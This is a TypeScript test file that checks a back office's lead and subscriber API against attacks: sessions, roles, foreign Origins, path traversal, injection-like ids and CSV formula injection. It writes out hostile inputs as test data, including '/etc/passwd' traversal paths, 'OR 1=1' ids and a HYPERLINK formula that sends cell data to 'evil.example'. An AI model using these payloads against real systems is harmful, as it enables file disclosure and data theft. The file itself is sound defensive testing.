/**
 * The back office's leads and subscribers against an attacker: no session, a customer's session, a
 * guessed studio session, a viewer writing, a viewer or an editor exporting (admins only), an
 * editor erasing a subscriber or reading what an erasure would take (the address and its other
 * leads), an erasure of the address's other leads from a foreign Origin or none, a malformed choice, a file id of another lead,
 * path and query tricks in ids, an upload looked for under every public URL, and a visitor's answer
 * made to run as a spreadsheet formula in the export. A refused request changes nothing and leaves
 * nothing of the file or the data in its answer.
 *
 * @engines sqlite: who may call is decided before any query.
 */
import crypto from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { proxiedTestEnv, withDatabaseOf } from '../api/forms-test-kit';
import { signedUp } from '../api/my-account-test-kit';
import { markedPng, sendClaim, sendContact, signUpForNewsletter, studioCall, type StudioAnswer } from '../back-office/lead-test-kit';
import { signInOperator } from '../studio/studio-test-kit';
import { decodedBody, rawRequest } from '../testing/raw-request';
import { startTestServer, type TestServer } from '../testing/test-server';

let server: TestServer;
let origin: string;
const as: Record<'viewer' | 'editor' | 'admin' | 'customer', Record<string, string>> = {} as never;
const marker = `upload-marker-${crypto.randomBytes(8).toString('hex')}`;
let claim: { id: number; fileId: number; storedName: string };
let otherClaim: { id: number; fileId: number; storedName: string };
let contact: number;
let subscriber: number;

beforeAll(async () => {
  server = await startTestServer(proxiedTestEnv);
  origin = new URL(server.url).origin;
  as.viewer = (await signInOperator(server, 'viewer')).headers;
  as.editor = (await signInOperator(server, 'editor')).headers;
  as.admin = (await signInOperator(server, 'admin')).headers;
  const customer = await signedUp(server.url);
  as.customer = { Cookie: customer.browser.cookie!, Authorization: `Bearer ${customer.accessToken}`, Origin: origin };
  claim = await sendClaim(server, markedPng(marker));
  otherClaim = await sendClaim(server, markedPng(`other-${marker}`));
  contact = await sendContact(server);
  subscriber = await signUpForNewsletter(server, 'kept.reader@example.com');
  // The same address's other lead, which only an admin's erasure with otherLeads=true may take.
  await sendContact(server, { email: 'kept.reader@example.com' });
});
afterAll(async () => {
  await server?.stop();
});

/** Every endpoint with a plausible request. */
const endpoints = (): [string, string, unknown?][] => [
  ['GET', '/api/studio/leads/forms'],
  ['GET', '/api/studio/leads?form=claim'],
  ['GET', `/api/studio/leads/${claim.id}`],
  ['PATCH', `/api/studio/leads/${contact}`, { status: 'closed' }],
  ['GET', `/api/studio/leads/${claim.id}/files/${claim.fileId}`],
  ['GET', '/api/studio/leads/export.csv?form=claim'],
  ['GET', '/api/studio/subscribers'],
  ['GET', '/api/studio/subscribers/export.csv'],
  ['GET', `/api/studio/subscribers/${subscriber}/erasure`],
  ['DELETE', `/api/studio/subscribers/${subscriber}`],
  ['DELETE', `/api/studio/subscribers/${subscriber}?otherLeads=true`],
];

/** What must not change under a refused request. */
const stored = () =>
  withDatabaseOf(server, async (q) => ({
    leads: await q.all(q.db.selectFrom('form_submission').select(['id', 'lead_status']).orderBy('id')),
    subscribers: await q.all(q.db.selectFrom('newsletter_subscriber').select('id').orderBy('id')),
    consents: await q.all(q.db.selectFrom('newsletter_consent').select('id').orderBy('id')),
    mails: await q.all(q.db.selectFrom('mail_outbox').select('id').orderBy('id')),
  }));

const auditActions = () => withDatabaseOf(server, async (q) => (await q.all(q.db.selectFrom('studio_audit').select('action'))).map((a) => a.action).filter((a) => /^(lead|subscriber)/.test(a)));

/** A refusal: the status, the error shape, nothing of the upload or of a lead's answers. */
function expectRefused(res: StudioAnswer, status: number) {
  expect(res.status).toBe(status);
  expect(res.body).toMatchObject({ error: expect.any(String), message: expect.any(String) });
  expect(res.text).not.toContain(marker);
  expect(res.text).not.toContain('Sam Carter');
  expect(res.text).not.toContain('kept.reader@example.com');
}

describe('without an operator session', () => {
  it('answers 401 to no cookie, a customer session and a guessed or altered studio session, and changes nothing', async () => {
    const before = await stored();
    const viewerSession = as.viewer.Cookie!.split('=')[1]!;
    const altered = `${viewerSession.slice(0, -1)}${viewerSession.endsWith('A') ? 'B' : 'A'}`;
    const strangers: Record<string, string>[] = [
      { Origin: origin },
      as.customer,
      { Cookie: `showroom_studio=${crypto.randomBytes(32).toString('base64url')}`, Origin: origin },
      { Cookie: `showroom_studio=${altered}`, Origin: origin },
      // The operator's session id under the customer's cookie name is no studio session.
      { Cookie: `showroom_session=${viewerSession}`, Origin: origin },
    ];
    for (const headers of strangers) {
      for (const [method, path, body] of endpoints()) {
        const res = await studioCall(server, headers, method, path, body);
        expectRefused(res, 401);
        expect(res.headers.get('cache-control')).toBe('no-store');
      }
    }
    expect(await stored()).toEqual(before);
    expect(await auditActions()).toEqual([]);
  });
});

describe('roles', () => {
  it('a viewer reads but cannot change a status, export or erase', async () => {
    const before = await stored();
    expect((await studioCall(server, as.viewer, 'GET', `/api/studio/leads/${claim.id}`)).status).toBe(200);
    expectRefused(await studioCall(server, as.viewer, 'PATCH', `/api/studio/leads/${contact}`, { status: 'closed' }), 403);
    expectRefused(await studioCall(server, as.viewer, 'GET', '/api/studio/leads/export.csv?form=claim'), 403);
    expectRefused(await studioCall(server, as.viewer, 'GET', '/api/studio/subscribers/export.csv'), 403);
    expectRefused(await studioCall(server, as.viewer, 'DELETE', `/api/studio/subscribers/${subscriber}`), 403);
    expectRefused(await studioCall(server, as.viewer, 'GET', `/api/studio/subscribers/${subscriber}/erasure`), 403);
    expect(await stored()).toEqual(before);
  });

  it('an editor cannot export (admins only) nor erase a subscriber', async () => {
    const before = await stored();
    const leads = await studioCall(server, as.editor, 'GET', '/api/studio/leads/export.csv?form=claim');
    expectRefused(leads, 403);
    expect(leads.body.message).toContain('This needs the admin role');
    expectRefused(await studioCall(server, as.editor, 'GET', '/api/studio/subscribers/export.csv'), 403);
    expectRefused(await studioCall(server, as.editor, 'DELETE', `/api/studio/subscribers/${subscriber}`), 403);
    expectRefused(await studioCall(server, as.editor, 'DELETE', `/api/studio/subscribers/${subscriber}?otherLeads=true`), 403);
    expectRefused(await studioCall(server, as.editor, 'GET', `/api/studio/subscribers/${subscriber}/erasure`), 403);
    expect(await stored()).toEqual(before);
    expect(await auditActions()).toEqual([]);
  });
});

describe('writes from elsewhere', () => {
  it('refuses a status change and an erasure with a foreign Origin or none, even with the right role', async () => {
    const before = await stored();
    for (const bad of [{ Origin: 'https://evil.example' }, { Origin: 'null' }, {}] as Record<string, string>[]) {
      const editor = { Cookie: as.editor.Cookie!, ...bad };
      const admin = { Cookie: as.admin.Cookie!, ...bad };
      expectRefused(await studioCall(server, editor, 'PATCH', `/api/studio/leads/${contact}`, { status: 'closed' }), 403);
      expectRefused(await studioCall(server, admin, 'DELETE', `/api/studio/subscribers/${subscriber}`), 403);
      expectRefused(await studioCall(server, admin, 'DELETE', `/api/studio/subscribers/${subscriber}?otherLeads=true`), 403);
    }
    expect(await stored()).toEqual(before);
    expect(await auditActions()).toEqual([]);
  });
});

describe('files', () => {
  it("answers 404 for a file id of another lead, and for a lead's id with no such file", async () => {
    expectRefused(await studioCall(server, as.admin, 'GET', `/api/studio/leads/${claim.id}/files/${otherClaim.fileId}`), 404);
    expectRefused(await studioCall(server, as.admin, 'GET', `/api/studio/leads/${otherClaim.id}/files/${claim.fileId}`), 404);
    expectRefused(await studioCall(server, as.admin, 'GET', `/api/studio/leads/${contact}/files/${claim.fileId}`), 404);
    expectRefused(await studioCall(server, as.admin, 'GET', `/api/studio/leads/${claim.id}/files/${claim.fileId + otherClaim.fileId + 100}`), 404);
    // Its own lead gives it.
    expect((await studioCall(server, as.viewer, 'GET', `/api/studio/leads/${claim.id}/files/${claim.fileId}`)).text).toContain(marker);
  });

  it('refuses path tricks in the ids with a 400 or 404, never a file', async () => {
    const stored = encodeURIComponent(claim.storedName);
    const paths = [
      `/api/studio/leads/${claim.id}/files/${stored}`,
      `/api/studio/leads/${claim.id}/files/..%2F..%2F${stored}`,
      `/api/studio/leads/${claim.id}/files/${claim.fileId}%2F..%2F..%2Fetc%2Fpasswd`,
      `/api/studio/leads/${claim.id}/files/${claim.fileId}.png`,
      `/api/studio/leads/${claim.id}/files/0${claim.fileId}`,
      `/api/studio/leads/${claim.id}/files/-${claim.fileId}`,
      `/api/studio/leads/${claim.id}/files/${claim.fileId}%00`,
      `/api/studio/leads/${claim.id}/files/%20${claim.fileId}`,
      `/api/studio/leads/..%2F${claim.id}/files/${claim.fileId}`,
      `/api/studio/leads/${claim.id}.0/files/${claim.fileId}`,
      `/api/studio/leads/0x${claim.id.toString(16)}/files/${claim.fileId}`,
      `/api/studio/leads/1e3/files/${claim.fileId}`,
      `/api/studio/leads/99999999999999999999/files/${claim.fileId}`,
      `/api/studio/leads/${claim.id}/files/${claim.fileId}/../../../${claim.id}/files/${otherClaim.fileId}`,
      `/api/studio/leads/${claim.id}%20OR%201=1`,
      `/api/studio/leads/${claim.id};select`,
    ];
    for (const p of paths) {
      const res = await rawRequest(server.url, p, { headers: { Cookie: as.admin.Cookie!, Origin: origin } });
      expect([400, 404], `${p}: ${decodedBody(res).toString('utf8')}`).toContain(res.status);
      expect(decodedBody(res).toString('latin1'), p).not.toContain(marker);
    }
  });

  it("does not serve an upload's stored name under any public URL, on the store nor on the dealer server", async () => {
    const name = claim.storedName;
    const [form, file] = name.split('/') as [string, string];
    const paths = [
      `/${name}`,
      `/uploads/${name}`,
      `/var/uploads/${name}`,
      `/${file}`,
      `/assets/../uploads/${name}`,
      `/assets/..%2F..%2Fuploads%2F${form}%2F${file}`,
      `/images/../../uploads/${name}`,
      `/images/..%2F..%2F..%2Fvar%2Fuploads%2F${form}%2F${file}`,
      `/widgets/../uploads/${name}`,
      `/playground/../../var/uploads/${name}`,
      `/api/forms/${name}`,
      `/api/uploads/${name}`,
      `/dev/uploads/${name}`,
    ];
    for (const base of [server.url, server.dealerUrl]) {
      for (const p of paths) {
        const res = await rawRequest(base, p);
        expect(decodedBody(res).toString('latin1'), `${base}${p}`).not.toContain(marker);
        expect(res.headers['content-type'] ?? '', `${base}${p}`).not.toMatch(/^image\//);
      }
    }
  });
});

describe('requests the contracts refuse', () => {
  it('answers 400 with the field for a wrong form, status, cursor or an unknown parameter, and nothing breaks on LIKE wildcards', async () => {
    for (const [path, field] of [
      ['/api/studio/leads?form=../claim', 'form'],
      ['/api/studio/leads?status=won', 'status'],
      ['/api/studio/leads?after=1%20OR%201=1', 'after'],
      ['/api/studio/leads?form=claim&debug=1', 'debug'],
      [`/api/studio/leads?search=${'x'.repeat(101)}`, 'search'],
      ['/api/studio/leads/export.csv', 'form'],
      ['/api/studio/subscribers?status=all', 'status'],
      ['/api/studio/subscribers?after=0', 'after'],
      [`/api/studio/subscribers/${subscriber}/erasure?otherLeads=true`, 'otherLeads'],
      ['/api/studio/subscribers/0/erasure', 'id'],
      ['/api/studio/subscribers/1e3/erasure', 'id'],
    ] as const) {
      const res = await studioCall(server, as.admin, 'GET', path);
      expectRefused(res, 400);
      expect(Object.keys(res.body.fields ?? {}), path).toContain(field);
    }
    // An erasure with a choice that is not true or false, or an unknown one, erases nothing.
    const before = await stored();
    for (const [query, field] of [
      ['otherLeads=yes', 'otherLeads'],
      ['otherLeads=1', 'otherLeads'],
      ['otherLeads=true&otherLeads=true', 'otherLeads'],
      ['everything=true', 'everything'],
    ] as const) {
      const res = await studioCall(server, as.admin, 'DELETE', `/api/studio/subscribers/${subscriber}?${query}`);
      expectRefused(res, 400);
      expect(Object.keys(res.body.fields ?? {}), query).toContain(field);
    }
    expectRefused(await studioCall(server, as.admin, 'DELETE', `/api/studio/subscribers/${subscriber + 1000}?otherLeads=true`), 404);
    expectRefused(await studioCall(server, as.admin, 'GET', `/api/studio/subscribers/${subscriber + 1000}/erasure`), 404);
    expect(await stored()).toEqual(before);
    for (const search of ['%', '_', "' OR 1=1 --", '\\', '"']) {
      const res = await studioCall(server, as.viewer, 'GET', `/api/studio/leads?search=${encodeURIComponent(search)}`);
      expect(res.status, search).toBe(200);
    }
    const body = await studioCall(server, as.editor, 'PATCH', `/api/studio/leads/${contact}`, { status: 'closed', lead_status: 'x' });
    expectRefused(body, 400);
    expectRefused(await studioCall(server, as.editor, 'PATCH', `/api/studio/leads/${contact}`, ['closed']), 400);
  });
});

describe('the CSV export', () => {
  it("neutralises a visitor's answers that a spreadsheet would run as formulas", async () => {
    const id = await sendContact(server, { firstName: '@SUM(1+1)', lastName: '-2+3', message: '=HYPERLINK("https://evil.example/?x="&A1,"Open")', phone: '+15125550100' });
    const csv = await studioCall(server, as.admin, 'GET', '/api/studio/leads/export.csv?form=contact');
    expect(csv.status).toBe(200);
    const line = csv.text.split('\r\n').find((l) => l.startsWith(`${id},`))!;
    expect(line).toContain(`,'@SUM(1+1),'-2+3,`);
    expect(line).toContain(`,"'=HYPERLINK(""https://evil.example/?x=""&A1,""Open"")",`);
    expect(line).toContain(`,'+15125550100,`);
    // No cell of the row starts with a formula character.
    expect(line).not.toMatch(/(^|,)"?[=+\-@]/);
  });
});
